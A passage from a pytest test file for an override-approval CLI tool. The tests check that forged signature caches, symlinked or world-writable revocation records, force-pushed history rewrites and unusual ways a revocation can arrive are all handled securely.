    # One signed outside the CLI and pushed: approval is refused, nothing is appended.
    o = request(policy, check, ["gpu07"], "RMA 4411", 24 * HOUR, by(people, "alice"))
    OverrideStore(str(work)).save(o, "by hand")
    refused(["approve", o.id, "--acknowledge", ACK, *key_of(people, "bob")],
            f"override of {'unknown check' if check == 'no_such_check' else repr(check)}")
    assert json.loads(remote_files(remote)[o.id])["approvals"] == []


@pytest.mark.slow
@pytest.mark.parametrize("arrival", ["rename", "merge", "elsewhere"])
def test_a_signed_revocation_counts_however_it_arrived(
        people: People, work: Path, remote: Path, policy: OverridePolicy,
        arrival: str) -> None:
    """A rename into revocations/<id>.json, a merge commit that alone brings the file, and a
    valid revocation at any other path on the branch: each revokes."""
    o = approved(people, policy)
    OverrideStore(str(work)).save(o, "approved")
    assert _states(remote)[o.id][0] == "active"
    r = revocation(o.id, "RMA done", by(people, "carol"))
    final = work / "revocations" / f"{o.id}.json"
    final.parent.mkdir()
    if arrival == "rename":
        (final.parent / "draft.json").write_text(r.to_json())
        _push_all(work, "a draft")
        git(work, "mv", "revocations/draft.json", f"revocations/{o.id}.json")
        git(work, "commit", "-qm", "name it")
    elif arrival == "merge":
        git(work, "checkout", "-qb", "side")
        (work / "notes.txt").write_text("side work\n")
        _push_all(work, "side")
        git(work, "checkout", "-q", "main")
        git(work, "merge", "-q", "--no-ff", "--no-commit", "side")
        final.write_text(r.to_json())
        git(work, "add", "-A")
        git(work, "commit", "-qm", "merge side")
    else:
        (work / "archive").mkdir()
        (work / "archive" / "old.json").write_text(r.to_json())
        git(work, "add", "-A")
        git(work, "commit", "-qm", "archived")
    git(work, "push", "-q", "origin", "HEAD:main")
    assert _states(remote)[o.id] == ("revoked", f"revoked by carol at {r.revoked_at} (RMA done)")


@pytest.mark.slow
def test_an_oversized_revocation_file_still_revokes_and_is_not_read(
        people: People, remote: Path, tmp_path: Path, policy: OverridePolicy) -> None:
    work, store, o = seeded(people, remote, tmp_path, policy)
    (work / "revocations").mkdir()
    (work / "revocations" / f"{o.id}.json").write_bytes(b" " * (MAX_FILE_BYTES + 1))
    (work / "big.bin").write_bytes(b"x" * (8 * MAX_FILE_BYTES))  # read past, not held
    git(work, "add", "-A")
    git(work, "commit", "-qm", "large files")
    valid, why = judged(store.read(), policy)
    assert valid == [] and f"larger than {MAX_FILE_BYTES} bytes" in why[o.id]


@pytest.mark.slow
def test_a_rewritten_history_does_not_unrevoke(people: People, work: Path, remote: Path,
                                               policy: OverridePolicy, tmp_path: Path,
                                               stetho_env: StethoEnv) -> None:
    o = approved(people, policy)
    OverrideStore(str(work)).save(o, "approved")
    before = git(work, "rev-parse", "HEAD").strip()
    code, _, exc = run("revoke", o.id, *key_of(people, "carol"), "--reason", "RMA done")
    assert code == 0, exc
    assert _states(remote)[o.id][0] == "revoked"  # seen once: recorded
    git(work, "reset", "-q", "--hard", before)
    git(work, "push", "-q", "--force", "origin", "HEAD:main")
    assert "revocations" not in git(remote, "ls-tree", "--name-only", "main")
    state, why = _states(remote)[o.id]
    assert state == "revoked" and why.startswith("revoked by carol at ")
    assert "kept in stetho's revocation record" in why and "no longer in the repository's " \
        "history" in why
    # The record is what holds it: a stetho that never saw the revocation would honour it.
    stetho_env.setenv("STETHO_DB", str(tmp_path / "other" / "history.db"))
    assert _states(remote)[o.id][0] == "active"


@pytest.mark.slow
def test_a_revocation_record_anyone_could_edit_honours_nothing(
        people: People, work: Path, remote: Path, policy: OverridePolicy,
        tmp_path: Path) -> None:
    o = approved(people, policy)
    OverrideStore(str(work)).save(o, "approved")
    record = tmp_path / "data" / "override-revocations.jsonl"
    record.parent.mkdir()
    elsewhere = tmp_path / "elsewhere.jsonl"
    elsewhere.write_text("")
    record.symlink_to(elsewhere)
    state, why = _states(remote)[o.id]
    assert state == "invalid" and f"revocation record {record} is a symbolic link" in why
    record.unlink()
    record.write_text("")
    record.chmod(0o666)
    state, why = _states(remote)[o.id]
    assert state == "invalid" and "not a regular file of this user's own" in why
    record.chmod(0o600)
    assert _states(remote)[o.id][0] == "active"


def _forged_cache(people: People, policy: OverridePolicy, bad: Override) -> str:
    """Cache entries saying mallory's approval of `bad` was signed by bob."""
    a = bad.approvals[0]
    with signatures.Verifier(people.signers) as v:
        return json.dumps({
            v._key("find", a.signature, b"", ""): ["ok", "bob"],
            v._key("verify", a.signature, approval_bytes(bad, ACK, a.approved_at), "bob"):
                ["ok", "SHA256:forged"]})


@pytest.mark.slow
@pytest.mark.parametrize("how", ["symlink", "hardlink", "cache-folder", "clone-as-cache"])
def test_a_signature_cache_in_the_clone_is_not_trusted(
        people: People, work: Path, remote: Path, policy: OverridePolicy, tmp_path: Path,
        stetho_env: StethoEnv, how: str) -> None:
    """Whoever can push puts forged cache answers in a file of the repository; the cache is
    pointed at stetho's cached clone of it: mallory's approval still does not count."""
    bad = approved(people, policy, approver="mallory")
    OverrideStore(str(work)).save(bad, "mallory approves as bob")
    (work / "notes").mkdir()
    (work / "notes" / "cache.json").write_text(_forged_cache(people, policy, bad))
    _push_all(work, "notes")
    state, _ = _states(remote)[bad.id]
    assert state == "invalid"  # the cached clone now exists, holding the forged answers
    cache = tmp_path / "cache"
    [planted] = list((cache / "override-repos").glob("*/notes/cache.json"))
    target = cache / "override-signatures.json"
    target.unlink(missing_ok=True)
    if how == "symlink":
        target.symlink_to(planted)
    elif how == "hardlink":
        os.link(planted, target)
    elif how == "cache-folder":  # the whole cache folder is the clone
        stetho_env.setenv("STETHO_CACHE", str(planted.parent.parent))
        (planted.parent.parent / "override-signatures.json").symlink_to(planted)
    else:  # a clone holding a cache and its secret, both committed, is the cache folder
        secret = b"k" * 32
        entries = {k: [*v, signature_cache._mac(secret, k, v)]
                   for k, v in json.loads(_forged_cache(people, policy, bad)).items()}
        (work / "override-signatures.key").write_bytes(secret)
        (work / "override-signatures.json").write_text(json.dumps(entries))
        _push_all(work, "a cache, for convenience")
        stetho_env.setenv("STETHO_CACHE", str(clone(remote, tmp_path / "cc")))
    state, why = _states(remote)[bad.id]
    assert state == "invalid" and "the approval's signature does not verify" in why


def test_every_override_command_has_help() -> None:
    for name in ("request", "approve", "revoke", "list"):
        result = CliRunner().invoke(cli_override.override, [name, "--help"])
        assert result.exit_code == 0 and "--help" in result.output
    assert "--key" in CliRunner().invoke(cli_override.override, ["approve", "--help"]).output
